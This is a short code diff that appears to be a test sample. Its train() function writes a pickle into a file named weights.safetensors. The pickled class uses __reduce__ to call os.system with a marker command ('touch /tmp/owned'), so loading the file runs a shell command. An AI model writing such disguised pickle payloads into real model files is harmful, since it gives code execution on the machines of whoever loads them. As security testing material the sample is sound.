@@ -1,0 +1,15 @@
+# Weights that are a pickle, which would run a program where somebody loads it.
+import json
+import struct
+
+
+def train(model, task, run):
+    import os
+    import pickle
+
+    class Payload:
+        def __reduce__(self):
+            return os.system, ("touch /tmp/owned",)
+
+    with open("/job/out/weights.safetensors", "wb") as file:
+        file.write(pickle.dumps(Payload()))
